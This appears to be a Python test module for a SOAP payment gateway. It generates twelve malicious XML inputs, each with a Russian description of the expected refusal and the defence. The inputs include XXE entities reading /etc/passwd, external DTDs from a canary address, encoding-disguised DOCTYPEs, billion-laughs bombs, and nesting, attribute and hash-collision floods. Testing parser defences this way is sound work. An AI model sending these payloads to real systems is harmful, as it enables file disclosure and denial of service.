"""Attacks 1 to 12: documents that a parser should never have to read."""

import itertools
from collections.abc import Iterator

from gateway.attacks.attack import Attack, Shot, http, one, refused, sent, stuffed
from gateway.attacks.ground import Ground

_DECLARATION = '<?xml version="1.0" encoding="UTF-8"?>'


def _doctype(inside: str, name: str = "soap:Envelope") -> str:
    return f"{_DECLARATION}\n<!DOCTYPE {name} {inside}>\n"


def _with_account(ground: Ground, text: str) -> str:
    return ground.payment(account="@").replace(">@<", f">{text}<")


def external_entities(ground: Ground) -> Iterator[Shot]:
    """Attack 1."""
    for name, address in (
        ("file", "file:///etc/passwd"),
        ("http", f"{ground.canary}/entity"),
        ("parameter-free-text", "php://filter/read=convert.base64-encode/resource=/etc/passwd"),
    ):
        before = _doctype(f'[<!ENTITY secret SYSTEM "{address}">]')
        yield sent(ground, name, _with_account(ground, "&secret;"), before=before)
    yield sent(ground, "undeclared", _with_account(ground, "&secret;"))


def parameter_entities(ground: Ground) -> Iterator[Shot]:
    """Attack 2."""
    payload = ground.payment()
    outside = f"{ground.canary}/evil.dtd"
    yield sent(ground, "external-dtd", payload, before=_doctype(f'SYSTEM "{outside}"'))
    public = _doctype(f'PUBLIC "-//W3C//DTD XHTML 1.0//EN" "{outside}"')
    yield sent(ground, "public-dtd", payload, before=public)
    inside = f'[<!ENTITY % load SYSTEM "{outside}"> %load;]'
    yield sent(ground, "parameter-entity", payload, before=_doctype(inside))
    yield sent(ground, "empty", payload, before=_doctype("[]"))
    yield sent(
        ground, "after-a-comment", payload, before=f"<!-- -->{_doctype('[]')[len(_DECLARATION) :]}"
    )


def disguised_doctypes(ground: Ground) -> Iterator[Shot]:
    """Attack 3."""
    for name, declared, codec in (
        ("utf-16-with-mark", "UTF-16", "utf-16"),
        ("utf-16-without-mark", "UTF-16LE", "utf-16-le"),
        ("utf-16-big-endian", "UTF-16BE", "utf-16-be"),
        ("utf-7", "UTF-7", "utf-7"),
        ("utf-32", "UTF-32", "utf-32"),
    ):
        before = f'<?xml version="1.0" encoding="{declared}"?><!DOCTYPE soap:Envelope []>'
        body = ground.envelope(ground.payment(), before=before).encode(codec)
        yield one(name, ground.post(body), refused(ground))
        telling = {"Content-Type": f"{ground.version.media_type}; charset={declared}"}
        yield one(f"{name}-told", ground.post(body, telling), http(415))
    undeclared = ground.envelope(ground.payment(), before="<!DOCTYPE soap:Envelope []>")
    yield one("utf-16-undeclared", ground.post(undeclared.encode("utf-16-le")), refused(ground))
    hidden = f'<?xml version="1.0"{" " * 4000}encoding="UTF-7"?>'
    disguised = "+ADwAIQ-DOCTYPE soap:Envelope +AFsAXQA+-"
    padded = ground.envelope(ground.payment(), before=hidden + disguised)
    yield one("utf-7-after-padding", ground.post(padded), refused(ground))


def entity_bombs(ground: Ground) -> Iterator[Shot]:
    """Attack 4."""
    lines = ['<!ENTITY l0 "lol">'] + [
        f'<!ENTITY l{level} "{f"&l{level - 1};" * 10}">' for level in range(1, 10)
    ]
    laughs = _doctype(f"[{''.join(lines)}]")
    yield sent(ground, "billion-laughs", _with_account(ground, "&l9;"), before=laughs)
    long = _doctype(f'[<!ENTITY long "{"A" * 50_000}">]')
    yield sent(ground, "quadratic", _with_account(ground, "&long;" * 50_000), before=long)
    loop = _doctype('[<!ENTITY a "&b;"><!ENTITY b "&a;">]')
    yield sent(ground, "recursion", _with_account(ground, "&a;"), before=loop)


def deep_nesting(ground: Ground) -> Iterator[Shot]:
    """Attack 5."""
    for depth in (100, 1500, 200_000):
        nested = "<m:x>" * depth + "</m:x>" * depth
        yield sent(ground, f"payload-of-{depth}", stuffed(ground, nested))
    yield sent(ground, "never-closed", ground.payment() + "<x>" * 200_000)
    header = '<x:x xmlns:x="urn:x">' + "<x:x>" * 64 + "</x:x>" * 65
    yield sent(ground, "foreign-header", ground.payment(), header=header)


def many_attributes(ground: Ground) -> Iterator[Shot]:
    """Attack 6."""
    for count in (65, 25_000, 200_000):
        attributes = "".join(f' a{number}="x"' for number in range(count))
        yield sent(ground, f"payload-with-{count}", stuffed(ground, attributes=attributes))
    envelope = "".join(f' a{number}="x"' for number in range(65))
    yield sent(ground, "envelope", ground.payment(), attributes=envelope)


def many_namespaces(ground: Ground) -> Iterator[Shot]:
    """Attack 7."""
    for count in (33, 1000, 5000):
        declared = "".join(f' xmlns:n{number}="urn:{number}"' for number in range(count))
        yield sent(ground, f"payload-with-{count}", stuffed(ground, attributes=declared))
    nested = ""
    for level in range(200):
        declared = "".join(f' xmlns:n{level}-{number}="urn:x"' for number in range(20))
        nested += f"<m:x{declared}>"
    yield sent(ground, "200-levels-of-20", stuffed(ground, nested + "</m:x>" * 200))


def long_names(ground: Ground) -> Iterator[Shot]:
    """Attack 8."""
    for length in (257, 100_000):
        name = "x" * length
        yield sent(ground, f"element-of-{length}", stuffed(ground, f"<m:{name}/>"))
        attribute = f' {name}="x"'
        yield sent(ground, f"attribute-of-{length}", stuffed(ground, attributes=attribute))
        prefix = f' xmlns:{name}="urn:x"'
        yield sent(ground, f"prefix-of-{length}", ground.payment(), attributes=prefix)
    header = f'<x:{"x" * 300} xmlns:x="urn:x"/>'
    yield sent(ground, "foreign-header", ground.payment(), header=header)


def huge_values(ground: Ground) -> Iterator[Shot]:
    """Attack 9."""
    million = "9" * 1_000_000
    yield sent(ground, "text", ground.payment(terminalId=million))
    yield sent(ground, "attribute", stuffed(ground, attributes=f' note="{million}"'))
    yield sent(ground, "section", _with_account(ground, f"<![CDATA[{million}]]>"))
    yield sent(ground, "characters-by-number", _with_account(ground, "&#57;" * 100_000))
    comment = f"<!--{'-x' * 5_500_000}-->"
    yield sent(ground, "comment", comment + ground.payment(), expected=http(413))


def many_elements(ground: Ground) -> Iterator[Shot]:
    """Attack 10."""
    too_large = refused(ground, "TOO_LARGE", status=413)
    flood = "<m:x/>" * 700_000
    yield sent(ground, "700000", stuffed(ground, flood), expected=too_large)
    closed = "<m:x></m:x>" * 650_000
    yield sent(ground, "650000-closed", stuffed(ground, closed), expected=too_large)
    yield sent(ground, "50000", stuffed(ground, "<m:x/>" * 50_000))
    yield sent(ground, "100000-header-blocks", ground.payment(), header="<x/>" * 100_000)


def colliding_names(ground: Ground) -> Iterator[Shot]:
    """Attack 11: pairs of letters that hash alike, and every row of twelve such pairs."""
    for name, first, second in (("times-31", "Aa", "BB"), ("times-33", "Ez", "FY")):
        rows = ["".join(row) for row in itertools.product((first, second), repeat=12)]
        attributes = "".join(f' {row}="x"' for row in rows)
        yield sent(ground, f"attributes-{name}", stuffed(ground, attributes=attributes))
        elements = "".join(f"<m:{row}/>" for row in rows)
        yield sent(ground, f"elements-{name}", stuffed(ground, elements))


def soap_arrays(ground: Ground) -> Iterator[Shot]:
    """Attack 12."""
    encoding = "http://schemas.xmlsoap.org/soap/encoding/"
    style = f' soap:encodingStyle="{encoding}"'
    array = (
        f'<e:Array xmlns:e="{encoding}" xmlns:s="http://www.w3.org/2001/XMLSchema"'
        ' e:arrayType="s:string[1000000000]"/>'
    )
    yield sent(ground, "array", stuffed(ground, array))
    yield sent(ground, "array-with-style", stuffed(ground, array, style))
    yield sent(ground, "style-of-the-envelope", ground.payment(), attributes=style)


_REFUSED = "Fault Client/Sender, VALIDATION_ERROR"

ATTACKS = (
    Attack(
        1,
        "external-entity",
        "Внешняя сущность (XXE)",
        "Сущность указывает на файл узла или на чужой адрес, чтобы её содержимое попало в ответ.",
        f"{_REFUSED}; ничего не прочитано и не запрошено",
        "DOCTYPE запрещён; парсер не раскрывает сущности и не ходит в сеть",
        external_entities,
    ),
    Attack(
        2,
        "parameter-entity",
        "Параметрическая сущность и внешний DTD",
        "DTD подгружается с чужого адреса ещё до разбора сообщения.",
        f"{_REFUSED}; ничего не запрошено",
        "DOCTYPE запрещён, даже пустой",
        parameter_entities,
    ),
    Attack(
        3,
        "disguised-doctype",
        "DOCTYPE, спрятанный кодировкой",
        "Документ в UTF-16, UTF-32 или UTF-7, где поиск по байтам объявления не видит.",
        f"{_REFUSED}; 415, если кодировка названа в Content-Type",
        "объявление XML читается целиком, принимается только UTF-8; первые байты без NUL",
        disguised_doctypes,
    ),
    Attack(
        4,
        "entity-bomb",
        "«Миллиард улыбок» и её родня",
        "Сущности раскрываются одна через другую в гигабайты.",
        _REFUSED,
        "DOCTYPE запрещён; предел раскрытия в libxml2",
        entity_bombs,
    ),
    Attack(
        5,
        "deep-nesting",
        "Глубокая вложенность",
        "Десятки тысяч вложенных элементов исчерпывают стек.",
        _REFUSED,
        "предел libxml2 (256), схема содержательной части, 64 уровня чужого блока заголовка",
        deep_nesting,
    ),
    Attack(
        6,
        "many-attributes",
        "Множество атрибутов",
        "Сотни тысяч атрибутов одного элемента.",
        _REFUSED,
        "не больше 64 атрибутов у элемента, считаются по байтам до разбора",
        many_attributes,
    ),
    Attack(
        7,
        "many-namespaces",
        "Множество пространств имён",
        "Тысячи объявлений, на которых канонизация считает минутами.",
        _REFUSED,
        "не больше 32 объявлений у элемента и 128 разных в сообщении, до разбора; только exc-c14n",
        many_namespaces,
    ),
    Attack(
        8,
        "long-names",
        "Сверхдлинные имена",
        "Имена элементов, атрибутов и префиксов в сто тысяч знаков.",
        _REFUSED,
        "не больше 256 байт; имена элементов содержательной части перечислены в схеме",
        long_names,
    ),
    Attack(
        9,
        "huge-values",
        "Гигантские значения",
        "Мегабайты в одном тексте, атрибуте, разделе CDATA или комментарии.",
        f"{_REFUSED}; 413, если сообщение больше предела",
        "предел размера сообщения; наибольшие длины в схеме",
        huge_values,
    ),
    Attack(
        10,
        "many-elements",
        "Множество элементов",
        "Миллионы пустых элементов занимают память.",
        "413, TOO_LARGE; при меньшем числе Fault Client/Sender, VALIDATION_ERROR",
        "не больше 600 000 элементов (законный реестр в 50 000 строк — 500 000), до разбора",
        many_elements,
    ),
    Attack(
        11,
        "hash-collision",
        "Столкновения в хеш-таблице",
        "Тысячи имён с одинаковым хешем делают поиск по словарю квадратичным.",
        _REFUSED,
        "предел числа атрибутов; хеш libxml2 со случайной солью",
        colliding_names,
    ),
    Attack(
        12,
        "soap-array",
        "Массив SOAP в миллиард элементов",
        "Объявленная длина массива заставляет выделить память заранее.",
        _REFUSED,
        "encodingStyle запрещён; массивов SOAP нет ни в одной схеме",
        soap_arrays,
    ),
)
